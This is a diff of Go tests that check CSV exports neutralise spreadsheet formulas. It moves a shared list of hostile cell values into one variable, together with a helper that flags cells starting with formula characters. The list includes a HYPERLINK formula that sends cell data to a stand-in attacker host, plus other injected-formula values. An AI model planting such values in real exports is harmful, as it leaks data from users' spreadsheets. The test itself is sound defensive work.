@@ -116,7 +116,7 @@ func TestBinHardeningCSVExport(t *testing.T) {
 	addr := freePort(t)
 	cfgPath, cfg := dlvConfig(t, dir, addr, fake.APIURL(), "")
 	st := openTestStore(t, cfg.Database)
-	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+SUM(1,2)", "-2+3", "@cmd", "\t=1+2"}
+	hostile := hardFormulas
 	now := time.Now().UTC()
 	err := st.Update(context.Background(), func(tx store.Tx) error {
 		for i, h := range hostile {
@@ -148,13 +148,7 @@ func TestBinHardeningCSVExport(t *testing.T) {
 			t.Errorf("the export lacks %q neutralised:\n%s", h, csv)
 		}
 	}
-	for _, line := range strings.Split(csv, "\n") {
-		for _, cell := range strings.Split(line, ",") {
-			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+-@\t", rune(c[0])) {
-				t.Errorf("a cell a spreadsheet would run: %q in %q", cell, line)
-			}
-		}
-	}
+	hardNoFormulaCells(t, csv)
 }
 
 // /healthz checks a write: with another connection holding SQLite's write
@@ -451,7 +445,7 @@ func TestBinHardeningReportCSV(t *testing.T) {
   session_key: "a-session-key-of-at-least-32-characters"
 `)
 	st := openTestStore(t, databaseOf(t, cfgPath))
-	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+SUM(1,2)", "-2+3", "@cmd", "\t=1+2"}
+	hostile := hardFormulas
 	now := time.Now().UTC()
 	err := st.Update(context.Background(), func(tx store.Tx) error {
 		for _, h := range hostile {
@@ -487,6 +481,17 @@ func TestBinHardeningReportCSV(t *testing.T) {
 			t.Errorf("/report.csv lacks the partner %q neutralised:\n%s", h, csv)
 		}
 	}
+	hardNoFormulaCells(t, csv)
+}
+
+// hardFormulas are texts a spreadsheet would run were they written as
+// they are.
+var hardFormulas = []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+SUM(1,2)", "-2+3", "@cmd", "\t=1+2"}
+
+// hardNoFormulaCells fails the test for every cell of csv a spreadsheet
+// would run.
+func hardNoFormulaCells(t *testing.T, csv string) {
+	t.Helper()
 	for _, line := range strings.Split(csv, "\n") {
 		for _, cell := range strings.Split(line, ",") {
 			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+-@\t", rune(c[0])) {
